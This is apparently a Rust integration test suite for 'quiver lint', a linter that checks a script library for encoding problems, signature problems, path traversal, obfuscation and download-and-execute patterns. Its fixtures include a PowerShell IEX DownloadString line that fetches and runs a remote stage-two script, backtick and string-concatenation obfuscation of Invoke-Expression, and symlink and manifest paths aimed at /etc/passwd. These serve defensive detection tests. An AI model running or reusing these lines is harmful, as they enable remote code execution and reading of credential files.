//! `quiver lint` end to end: the real binary on libraries written to temp folders, one
//! fixture per check that must trigger it and a near miss that must not. Each assertion
//! looks for the rule id at `file:line` in the human report, the way a reviewer reads it.
//! Binary fixtures (UTF-16, CRLF, symlinks, signatures, sparse files) are made at test
//! time so the repository holds no file an editor or git might "fix".

#[path = "lint_support.rs"]
mod support;

use support::{Repo, findings, utf16be, utf16le};

const DOWNLOAD_EXEC: &str = "# Stage two of the collector\n\
$ErrorActionPreference = 'Stop'\n\
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/stage2.ps1')\n\
Get-Process | Select-Object Name, Id\n";

const BENIGN_PS1: &str = "# Lists running processes\n\
$ErrorActionPreference = 'Stop'\n\
Get-Process | Sort-Object CPU -Descending | Select-Object -First 20 Name, Id, CPU\n";

#[test]
fn utf16_le_and_be_scripts_are_decoded_and_scanned() {
    let repo = Repo::new();
    repo.script(
        "stage-le",
        "windows",
        "powershell",
        "stage.ps1",
        utf16le(DOWNLOAD_EXEC),
    )
    .script(
        "stage-be",
        "windows",
        "powershell",
        "stage.ps1",
        utf16be(DOWNLOAD_EXEC),
    )
    .script(
        "procs-le",
        "windows",
        "powershell",
        "procs.ps1",
        utf16le(BENIGN_PS1),
    );
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("download-exec.powershell", "library/stage-le/stage.ps1:3");
    run.assert_finding("download-exec.powershell", "library/stage-be/stage.ps1:3");
    // Near miss: UTF-16 itself is fine, and decoding it finds nothing in harmless text.
    run.assert_no_under("download-exec.powershell", "library/procs-le/");
    run.assert_no_under("encoding.invalid", "library/");
}

#[test]
fn crlf_in_a_shell_script_is_flagged() {
    let repo = Repo::new();
    repo.script("crlf", "linux", "sh", "run.sh", "#!/bin/sh\r\nps -ef\r\n")
        .script("lf", "linux", "sh", "run.sh", "#!/bin/sh\nps -ef\n")
        // CRLF is normal for PowerShell.
        .script(
            "ps-crlf",
            "windows",
            "powershell",
            "run.ps1",
            "Get-Process\r\nGet-Service\r\n",
        );
    let run = repo.lint(&[]);
    run.assert_finding("encoding.crlf", "library/crlf/run.sh");
    run.assert_no_under("encoding.crlf", "library/lf/");
    run.assert_no_under("encoding.crlf", "library/ps-crlf/");
}

#[test]
fn non_ascii_ps1_without_bom_is_flagged() {
    let text = "# Collects services\nWrite-Output 'Collecting services \u{2013} please wait'\nGet-Service\n";
    let mut with_bom = vec![0xEF, 0xBB, 0xBF];
    with_bom.extend_from_slice(text.as_bytes());
    let repo = Repo::new();
    repo.script("no-bom", "windows", "powershell", "svc.ps1", text)
        .script("bom", "windows", "powershell", "svc.ps1", with_bom);
    let run = repo.lint(&[]);
    run.assert_finding("encoding.ps1-non-ascii-no-bom", "library/no-bom/svc.ps1:2");
    run.assert_no_under("encoding.ps1-non-ascii-no-bom", "library/bom/");
}

#[cfg(unix)]
#[test]
fn symlinks_refuse_their_script_and_the_others_are_still_linted() {
    let repo = Repo::new();
    repo.script("linked", "linux", "bash", "run.sh", "#!/bin/bash\nps -ef\n")
        .script(
            "escape",
            "linux",
            "bash",
            "run.sh",
            "#!/bin/bash\ncat passwd\n",
        )
        .script("other", "linux", "sh", "run.sh", "#!/bin/sh\r\nid\r\n")
        .script("plain", "linux", "bash", "run.sh", "#!/bin/bash\nuptime\n");
    std::os::unix::fs::symlink("run.sh", repo.lib_path("linked/helper.sh")).unwrap();
    std::os::unix::fs::symlink("../../../../etc/passwd", repo.lib_path("escape/passwd")).unwrap();
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.symlink", "library/linked/helper.sh");
    run.assert_finding("path.symlink", "library/escape/passwd");
    // The bad scripts do not stop the others from being linted.
    run.assert_finding("encoding.crlf", "library/other/run.sh");
    run.assert_no_under("path.symlink", "library/plain/");
    assert!(
        !run.stdout.contains("root:x:0:0"),
        "the link target must never be read"
    );
}

#[test]
fn entry_path_escaping_the_script_folder_is_refused() {
    let repo = Repo::new();
    repo.file(
        "trav/script.toml",
        support::manifest("trav", "linux", "bash", "../../etc/passwd"),
    )
    .file("trav/readme.md", "nothing to see\n")
    .file(
        "nested/script.toml",
        support::manifest("nested", "linux", "bash", "bin/run.sh"),
    )
    .file("nested/bin/run.sh", "#!/bin/bash\nuptime\n");
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.traversal", "library/trav/script.toml");
    run.assert_no_under("path.traversal", "library/nested/");
    run.assert_no_under("manifest.entry-missing", "library/nested/");
}

#[test]
fn paths_equal_ignoring_case_collide() {
    let repo = Repo::new();
    repo.script("clash", "windows", "powershell", "Get-X.ps1", BENIGN_PS1)
        .file("clash/get-x.ps1", BENIGN_PS1)
        .script("fine", "windows", "powershell", "Get-X.ps1", BENIGN_PS1)
        .file("fine/Get-Y.ps1", BENIGN_PS1);
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("path.case-collision", "library/clash/get-x.ps1");
    run.assert_no_under("path.case-collision", "library/fine/");
}

#[test]
fn file_at_the_size_limit_passes_and_one_byte_over_fails() {
    let repo = Repo::new();
    repo.policy("limits.toml", "[limits]\nmax_file_size = 1024\n")
        .script(
            "at-limit",
            "linux",
            "bash",
            "run.sh",
            "#!/bin/bash\ncat data.txt\n",
        )
        .file("at-limit/data.txt", vec![b'a'; 1024])
        .script(
            "over-limit",
            "linux",
            "bash",
            "run.sh",
            "#!/bin/bash\ncat data.txt\n",
        )
        .file("over-limit/data.txt", vec![b'a'; 1025]);
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("limits.file-size", "library/over-limit/data.txt");
    run.assert_no_under("limits.file-size", "library/at-limit/");
}

#[test]
fn a_huge_file_is_not_loaded_and_its_size_on_disk_is_reported() {
    let repo = Repo::new();
    repo.policy("limits.toml", "[limits]\nmax_file_size = 1024\n")
        .script(
            "huge",
            "linux",
            "bash",
            "run.sh",
            "#!/bin/bash\ncat dump.txt\n",
        );
    // A sparse 10 GiB file: costs no disk, and reading it whole would take minutes.
    let f = std::fs::File::create(repo.lib_path("huge/dump.txt")).unwrap();
    f.set_len(10 * 1024 * 1024 * 1024).unwrap();
    drop(f);
    let started = std::time::Instant::now();
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("limits.file-size", "library/huge/dump.txt");
    let line = run.lines_with("limits.file-size").join("\n");
    assert!(line.contains("10.0 GiB"), "size on disk: {line}");
    assert!(
        started.elapsed() < std::time::Duration::from_secs(60),
        "the file was read whole"
    );
}

#[test]
fn misspelt_manifest_field_names_the_field_and_line() {
    let repo = Repo::new();
    repo.file(
        "typo/script.toml",
        "name = \"typo\"\ndescription = \"fixture\"\nplatforms = [\"linux\"]\ntimout = \"5m\"\n\n[entry.linux]\nfile = \"run.sh\"\ninterpreter = \"bash\"\n",
    )
    .file("typo/run.sh", "#!/bin/bash\nuptime\n")
    .script("good", "linux", "bash", "run.sh", "#!/bin/bash\nuptime\n");
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("manifest.invalid", "library/typo/script.toml:4");
    let line = run.lines_with("manifest.invalid").join("\n");
    assert!(line.contains("timout"), "names the field: {line}");
    run.assert_no_under("manifest.invalid", "library/good/");
}

#[test]
fn executables_need_a_signature_by_a_pinned_key() {
    use minisign::KeyPair;
    let pinned = KeyPair::generate_unencrypted_keypair().unwrap();
    let stranger = KeyPair::generate_unencrypted_keypair().unwrap();
    let binary: Vec<u8> = b"\x7fELF\x02\x01\x01\0"
        .iter()
        .copied()
        .chain((0..4096u32).map(|i| (i * 7 % 251) as u8))
        .collect();
    let sign = |kp: &KeyPair| -> String {
        minisign::sign(
            Some(&kp.pk),
            &kp.sk,
            std::io::Cursor::new(&binary),
            Some("file:collector"),
            Some("signed by the test"),
        )
        .unwrap()
        .to_string()
    };
    // Flip one base64 character well inside the signature (past the key id).
    let corrupt = |sig: String| -> String {
        let mut lines: Vec<String> = sig.lines().map(str::to_string).collect();
        let mut chars: Vec<char> = lines[1].chars().collect();
        let i = chars.len() - 12;
        chars[i] = if chars[i] == 'A' { 'B' } else { 'A' };
        lines[1] = chars.into_iter().collect();
        lines.join("\n") + "\n"
    };
    let repo = Repo::new();
    repo.policy(
        "keys.toml",
        &format!(
            "[[publisher_key]]\nid = \"ir-tools\"\nkey = \"{}\"\n",
            pinned.pk.to_base64()
        ),
    );
    for name in ["unsigned", "untrusted", "corrupted", "signed"] {
        repo.script(name, "linux", "executable", "collector", &binary);
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let p = repo.lib_path(&format!("{name}/collector"));
            std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
    }
    repo.file("untrusted/collector.minisig", sign(&stranger))
        .file("corrupted/collector.minisig", corrupt(sign(&pinned)))
        .file("signed/collector.minisig", sign(&pinned));
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("signature.missing", "library/unsigned/collector");
    run.assert_finding("signature.untrusted", "library/untrusted/collector");
    run.assert_finding("signature.invalid", "library/corrupted/collector");
    for rule in [
        "signature.missing",
        "signature.untrusted",
        "signature.invalid",
    ] {
        run.assert_no_under(rule, "library/signed/");
    }
}

#[test]
fn policy_with_an_unknown_role_names_file_and_line() {
    let repo = Repo::new();
    repo.policy(
        "members.toml",
        &support::MEMBERS.replace("roles = [\"lead\"]", "roles = [\"lead\", \"resopnder\"]"),
    )
    .script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1);
    let run = repo.lint(&[]);
    run.assert_code(1);
    assert!(
        run.stdout
            .lines()
            .any(|l| l.starts_with("policies/members.toml:6:") && l.contains("resopnder")),
        "{}",
        run.stdout
    );
    // Same in JSON: the error is listed with its location.
    let (code, report) = repo.lint_json();
    assert_eq!(code, 1);
    let err = &report["errors"][0];
    assert_eq!(err["location"]["file"], "policies/members.toml");
    assert_eq!(err["location"]["line"], 6);
}

#[test]
fn unclosed_brace_is_a_syntax_error_on_its_line() {
    let broken = "# Lists processes\nfunction Get-Stuff {\n    Get-Process | ForEach-Object {\n        $_.Name\n    }\n\nGet-Stuff\n";
    let near_miss = "# Braces inside strings are text\nfunction Get-Stuff {\n    Write-Output \"{\"\n    Write-Output '}}'\n    $h = @\"\n{ not code\n\"@\n    $h\n}\nGet-Stuff\n";
    let repo = Repo::new();
    repo.script("broken", "windows", "powershell", "run.ps1", broken)
        .script("strings", "windows", "powershell", "run.ps1", near_miss);
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("syntax.powershell", "library/broken/run.ps1:2");
    let line = run.lines_with("syntax.powershell").join("\n");
    assert!(line.contains(": deny "), "a parse error blocks: {line}");
    run.assert_no_under("syntax.powershell", "library/strings/");
}

#[test]
fn obfuscated_invoke_expression_is_found() {
    let ticks = "$code = Get-Content -Raw .\\payload.txt\ni`e`x $code\n";
    let concat = "$code = Get-Content -Raw .\\payload.txt\n& ('Invoke-'+'Expression') $code\n";
    let plain = "$code = Get-Content -Raw .\\payload.txt\nWrite-Output \"iex is a word in this sentence\"\n";
    let repo = Repo::new();
    repo.script("ticks", "windows", "powershell", "run.ps1", ticks)
        .script("concat", "windows", "powershell", "run.ps1", concat)
        .script("plain", "windows", "powershell", "run.ps1", plain);
    let run = repo.lint(&[]);
    run.assert_code(1);
    run.assert_finding("obfuscation.dynamic-invoke", "library/ticks/run.ps1:2");
    run.assert_finding("obfuscation.dynamic-invoke", "library/concat/run.ps1:2");
    run.assert_no_under("obfuscation.dynamic-invoke", "library/plain/");
}

#[test]
fn a_git_folder_inside_the_library_is_a_finding() {
    let repo = Repo::new();
    repo.script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1)
        .file("procs/.git/HEAD", "ref: refs/heads/main\n");
    let run = repo.lint(&[]);
    run.assert_finding("path.git", "library/procs/.git/HEAD");
}

#[test]
fn files_outside_every_script_are_reported_not_ignored() {
    let repo = Repo::new();
    repo.script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1)
        // A script whose script.toml was forgotten, and a document.
        .file("Get-Users/Get-Users.ps1", BENIGN_PS1)
        .file("README.md", "# Our library\n");
    let run = repo.lint(&[]);
    run.assert_code(0);
    run.assert_finding("library.unclaimed", "library/Get-Users/Get-Users.ps1");
    run.assert_finding("library.unclaimed", "library/README.md");
    let lines = run.lines_with("library.unclaimed");
    assert!(
        lines.iter().any(|l| l.contains("Get-Users.ps1: warn ")),
        "{lines:?}"
    );
    assert!(
        lines.iter().any(|l| l.contains("README.md: info ")),
        "{lines:?}"
    );
}

#[test]
fn policy_globs_that_match_nothing_are_warnings() {
    let repo = Repo::new();
    repo.script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1)
        .policy(
            "extra.toml",
            "[[discovery]]\nglob = \"legacy/**/*.ps1\"\nplatform = \"windows\"\ninterpreter = \"powershell\"\n\n[[waiver]]\nscript = \"porcs\"\nrule = \"encoding.crlf\"\nreason = \"the vendor ships it with CRLF line endings\"\nby = \"lead\"\n",
        );
    let run = repo.lint(&[]);
    run.assert_code(0);
    assert!(
        run.stdout
            .lines()
            .any(|l| l.starts_with("warning: policies/extra.toml:2:")
                && l.contains("matches no file")),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .lines()
            .any(|l| l.starts_with("warning: policies/extra.toml:7:")
                && l.contains("`porcs` matches no script")),
        "{}",
        run.stdout
    );
}

#[test]
fn a_waiver_downgrades_a_finding_and_says_why() {
    let repo = Repo::new();
    repo.script("stage", "windows", "powershell", "stage.ps1", DOWNLOAD_EXEC)
        .policy(
            "waivers.toml",
            "[[waiver]]\nscript = \"stage\"\nrule = \"download-exec.powershell\"\nreason = \"fetches the vendor's signed collector from an internal mirror\"\nby = \"lead\"\n",
        );
    let run = repo.lint(&[]);
    run.assert_code(0);
    run.assert_finding("download-exec.powershell", "library/stage/stage.ps1:3");
    assert!(
        run.stdout
            .contains("waived by lead: fetches the vendor's signed collector")
    );
    let summary = run.stdout.lines().last().unwrap_or_default();
    assert!(summary.contains("(1 waived)"), "{summary}");
    assert!(summary.contains("0 deny"), "{summary}");
}

#[test]
fn clean_library_exits_zero_with_a_summary() {
    let repo = Repo::new();
    repo.script("procs", "windows", "powershell", "procs.ps1", BENIGN_PS1)
        .script(
            "uptime",
            "linux",
            "bash",
            "uptime.sh",
            "#!/bin/bash\nuptime\n",
        );
    let run = repo.lint(&[]);
    run.assert_code(0);
    let last = run.stdout.lines().last().unwrap_or_default();
    assert!(last.starts_with("linted 2 scripts, 4 files, "), "{last}");
    assert!(
        last.ends_with("0 deny, 0 warn, 0 info (0 waived)"),
        "{last}"
    );
    let (code, report) = repo.lint_json();
    assert_eq!(code, 0);
    assert_eq!(report["scripts"], 2);
    assert_eq!(report["files"], 4);
    assert_eq!(report["summary"]["deny"], 0);
    assert!(report["errors"].as_array().unwrap().is_empty());
}

#[test]
fn output_file_gets_the_report_and_stderr_the_summary() {
    let repo = Repo::new();
    repo.script("stage", "windows", "powershell", "stage.ps1", DOWNLOAD_EXEC);
    let run = repo.lint(&["--format", "json", "--output", "report.json"]);
    run.assert_code(1);
    assert!(run.stdout.is_empty(), "{}", run.stdout);
    assert!(run.stderr.contains("linted 1 script"), "{}", run.stderr);
    let text = std::fs::read_to_string(repo.root().join("report.json")).unwrap();
    let report: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert!(
        findings(&report)
            .iter()
            .any(|(rule, file, line)| rule == "download-exec.powershell"
                && file == "library/stage/stage.ps1"
                && *line == Some(3))
    );
}

#[test]
fn missing_folders_are_usage_errors() {
    let repo = Repo::new();
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .current_dir(repo.root())
        .args(["lint", "no-such-library"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no-such-library"));
    let run = repo.lint(&["--policies", "no-such-policies"]);
    run.assert_code(2);
    assert!(run.stderr.contains("no-such-policies"), "{}", run.stderr);
    let run = repo.lint(&["--format", "yaml"]);
    run.assert_code(2);
}

#[test]
fn example_library_is_clean_and_its_windows_and_macos_scripts_parse() {
    let root = quiver_tests::workspace_root();
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .current_dir(&root)
        .args(["lint", "example-library", "--format", "json"])
        .output()
        .unwrap();
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json report");
    let all = findings(&report);
    // The Windows and macOS entry files, from the manifests.
    let mut entries = Vec::new();
    for dir in std::fs::read_dir(root.join("example-library")).unwrap() {
        let dir = dir.unwrap().path();
        let Ok(text) = std::fs::read_to_string(dir.join("script.toml")) else {
            continue;
        };
        let manifest: toml::Table = text.parse().expect("script.toml parses");
        for platform in ["windows", "macos"] {
            if let Some(file) = manifest
                .get("entry")
                .and_then(|e| e.get(platform))
                .and_then(|e| e.get("file"))
                .and_then(|f| f.as_str())
            {
                let name = dir.file_name().unwrap().to_string_lossy();
                entries.push(format!("example-library/{name}/{file}"));
            }
        }
    }
    assert!(
        entries.iter().any(|e| e.ends_with(".ps1")) && entries.len() >= 10,
        "Windows and macOS entries: {entries:?}"
    );
    let syntax: Vec<_> = all
        .iter()
        .filter(|(r, file, _)| r.starts_with("syntax.") && entries.contains(file))
        .collect();
    assert!(
        syntax.is_empty(),
        "parse findings in Windows/macOS scripts of example-library: {syntax:#?}"
    );
    assert_eq!(out.status.code(), Some(0), "findings: {all:?}");
    assert!(report["scripts"].as_u64().unwrap_or(0) >= 13);
    // And the human report ends with the summary line.
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .current_dir(&root)
        .args(["lint", "example-library"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let last = stdout.lines().last().unwrap_or_default();
    assert!(last.starts_with("linted "), "{stdout}");
    assert_eq!(out.status.code(), Some(0), "{stdout}");
}

#[test]
fn no_syntax_skips_parsing_and_says_so() {
    let repo = Repo::new();
    repo.script(
        "broken",
        "windows",
        "powershell",
        "run.ps1",
        "function Get-Stuff {\n    Get-Process\n\nGet-Stuff\n",
    )
    .script(
        "ticks",
        "windows",
        "powershell",
        "run.ps1",
        "i`e`x 'Get-Date'\n",
    )
    .script("stage", "windows", "powershell", "stage.ps1", DOWNLOAD_EXEC);
    let full = repo.lint(&[]);
    full.assert_finding("syntax.powershell", "library/broken/run.ps1:1");
    full.assert_finding("obfuscation.dynamic-invoke", "library/ticks/run.ps1:1");
    let quick = repo.lint(&["--no-syntax"]);
    // The parse and the command rules are skipped; regex rules and the rest still run.
    quick.assert_no("syntax.powershell");
    quick.assert_no_under("obfuscation.dynamic-invoke", "library/ticks/");
    quick.assert_finding("download-exec.powershell", "library/stage/stage.ps1:3");
    quick.assert_code(1);
    let last = quick.stdout.lines().last().unwrap_or_default();
    assert!(last.starts_with("linted 3 scripts, "), "{last}");
    assert!(last.ends_with("; syntax not checked"), "{last}");
    let last = full.stdout.lines().last().unwrap_or_default();
    assert!(!last.contains("syntax not checked"), "{last}");
    let run = repo.lint(&["--no-syntax", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["syntax_checked"], false);
}
